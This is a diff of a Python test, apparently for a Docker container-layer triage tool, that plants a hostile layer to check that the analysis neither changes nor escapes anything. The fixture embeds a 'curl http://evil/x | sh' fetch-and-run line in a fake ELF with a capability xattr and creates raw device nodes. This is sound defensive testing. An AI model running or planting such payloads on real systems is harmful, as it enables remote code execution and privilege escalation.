@@ -4,6 +4,7 @@ under the analysed root changed."""
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import socket
@@ -57,10 +58,12 @@ def plant(upper: Path, outside: Path) -> Path:
     elf = upper / "app/capbin"
     elf.write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"curl http://evil/x | sh\n")
     elf.chmod(0o755)
-    try:
-        os.setxattr(elf, "security.capability", b"\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")
-    except OSError:
-        pass
+    with contextlib.suppress(OSError):
+        os.setxattr(
+            elf,
+            "security.capability",
+            b"\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
+        )
     os.mkfifo(upper / "app/fifo")
     os.mknod(upper / "app/null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
     os.mknod(upper / "app/sda", 0o660 | stat.S_IFBLK, os.makedev(8, 0))
@@ -94,14 +97,16 @@ def _log(archive: Path) -> list[dict]:
         return [json.loads(line) for line in handle.read().splitlines()]
 
 
-def test_hostile_writable_layer_through_the_triage_changes_nothing_and_escapes_nowhere(tmp_path: Path) -> None:
+def test_hostile_writable_layer_through_the_triage_changes_nothing_and_escapes_nowhere(
+    tmp_path: Path,
+) -> None:
     o = build(tmp_path)
     outside = tmp_path / "outside"
     outside.mkdir()
     marker = plant(o.upper, outside)
     # A second container whose config is not JSON, and a third whose config is enormous.
     bad = add_container(o.root, "corrupt", "corrupt")
-    (o.root / "var/lib/docker/containers" / bad / "config.v2.json").write_bytes(b"{\"ID\": \xff\xfe not json")
+    (o.root / "var/lib/docker/containers" / bad / "config.v2.json").write_bytes(b'{"ID": \xff\xfe not json')
     huge = add_container(o.root, "huge", "huge")
     with open(o.root / "var/lib/docker/containers" / huge / "config.v2.json", "wb") as f:
         f.write(b'{"ID": "' + b"A" * (64 << 20) + b'"}')
